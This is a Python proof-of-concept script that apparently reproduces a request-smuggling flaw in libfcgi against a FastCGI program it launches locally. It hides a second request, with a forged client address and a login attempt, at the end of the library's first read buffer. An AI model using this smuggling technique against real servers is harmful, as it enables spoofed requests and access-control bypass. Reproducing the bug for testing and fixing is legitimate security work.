"""
smuggle.py PROGRAM [NAME=VALUE ...]: starts a FastCGI program and sends it, as
a web server that keeps its connections, a request with a body that is too long
to be read, in which there stands a second request, just where libfcgi's first
buffer ends.  Prints everything that is answered.
"""
import os
import socket
import struct
import subprocess
import sys
import tempfile

from ask import BEGIN, PARAMS, STDIN, contents, pairs, record

BUFFER, HEADER, SIZE = 8192, 8, 30000
KEEP_CONN = 1


def head(variables):
    return (record(BEGIN, struct.pack(">HB5x", 1, KEEP_CONN)) +
            record(PARAMS, b"".join(pairs(variables))) + record(PARAMS, b""))


def body(first, variables):
    content = b"username=nobody&password=wrong"
    second = (head(variables + [f"CONTENT_LENGTH={len(content)}",
                                "REMOTE_ADDR=198.51.100.99"]) +
              record(STDIN, content) + record(STDIN, b""))
    space = BUFFER - HEADER - len(first)
    return (bytes(space) + second).ljust(SIZE, b"\0")


def main():
    command = sys.argv[1:]
    first = head(command[1:] + [f"CONTENT_LENGTH={SIZE}",
                                "REMOTE_ADDR=192.0.2.1"])
    with tempfile.TemporaryDirectory() as directory:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(os.path.join(directory, "socket"))
        listener.listen()
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(20)
        client.connect(os.path.join(directory, "socket"))
        # All of it is there before the program looks at any of it.
        client.sendall(first + record(STDIN, body(first, command[1:])) +
                       record(STDIN, b""))
        program = subprocess.Popen(command[:1], stdin=listener)
        listener.close()
        answer = b""
        while chunk := client.recv(65536):
            answer += chunk
        client.close()
        program.terminate()
        sys.stdout.buffer.write(b"".join(contents(answer)))
        return program.wait(timeout=20)


sys.exit(main())
